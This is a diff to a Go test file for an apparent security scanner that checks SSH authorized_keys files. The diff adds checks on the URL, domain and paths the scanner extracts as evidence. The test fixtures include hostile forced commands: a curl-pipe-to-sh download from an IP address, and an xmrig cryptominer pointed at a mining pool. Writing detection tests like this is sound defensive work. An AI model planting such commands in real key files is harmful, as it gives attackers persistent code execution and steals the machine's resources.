@@ -75,14 +75,17 @@ func TestSSHKeys(t *testing.T) {
 		modes map[string]os.FileMode
 		want  []string // rule/severity/path:line
 		warn  string
+		refs  string // key_command URL, domain, paths
 	}{
 		{name: "normal keys", tree: map[string]string{"root/.ssh/authorized_keys": k1 + " admin@host\n", "home/alice/.ssh/authorized_keys": "# mine\n" + k2 + " alice\n",
 			"home/git/.ssh/authorized_keys": `command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-1",no-port-forwarding ` + k2 + "\n"},
 			want: []string{"accounts.ssh.keys/info//home/alice/.ssh/authorized_keys:0", "accounts.ssh.keys/info//home/git/.ssh/authorized_keys:0", "accounts.ssh.keys/info//root/.ssh/authorized_keys:0"}},
 		{name: "download command", tree: map[string]string{"root/.ssh/authorized_keys": `command="curl -fsSL http://198.51.100.7/x.sh|sh" ` + k1 + " x\n"},
-			want: []string{"accounts.ssh.key_command/high//root/.ssh/authorized_keys:1", "accounts.ssh.keys/info//root/.ssh/authorized_keys:0"}},
+			want: []string{"accounts.ssh.key_command/high//root/.ssh/authorized_keys:1", "accounts.ssh.keys/info//root/.ssh/authorized_keys:0"},
+			refs: "http://198.51.100.7/x.sh 198.51.100.7 "},
 		{name: "miner command in keys2", tree: map[string]string{"home/alice/.ssh/authorized_keys2": "\n" + `command="/tmp/xmrig -o stratum+tcp://pool.example:3333" ` + k1 + "\n"},
-			want: []string{"accounts.ssh.key_command/high//home/alice/.ssh/authorized_keys2:2", "accounts.ssh.keys/info//home/alice/.ssh/authorized_keys2:0"}},
+			want: []string{"accounts.ssh.key_command/high//home/alice/.ssh/authorized_keys2:2", "accounts.ssh.keys/info//home/alice/.ssh/authorized_keys2:0"},
+			refs: "stratum+tcp://pool.example:3333 pool.example /tmp/xmrig"},
 		{name: "system account key", tree: map[string]string{"var/www/.ssh/authorized_keys": k1 + "\n"},
 			want: []string{"accounts.ssh.system_key/medium//var/www/.ssh/authorized_keys:0"}},
 		{name: "world-writable", tree: map[string]string{"home/alice/.ssh/authorized_keys": k1 + "\n"}, modes: map[string]os.FileMode{"home/alice/.ssh/authorized_keys": 0o666, "home/alice/.ssh": 0o777},
@@ -133,6 +136,11 @@ func TestSSHKeys(t *testing.T) {
 				}
 				if f.Rule == "accounts.ssh.key_command" && !strings.Contains(f.Evidence.Content, fp1) {
 					t.Fatalf("no fingerprint in %q", f.Evidence.Content)
+				}
+				if f.Rule == "accounts.ssh.key_command" && tc.refs != "" {
+					if r := f.Evidence.URL + " " + f.Evidence.Domain + " " + strings.Join(f.Evidence.Paths, ","); r != tc.refs {
+						t.Fatalf("refs %q want %q", r, tc.refs)
+					}
 				}
 			}
 			sort.Strings(got)
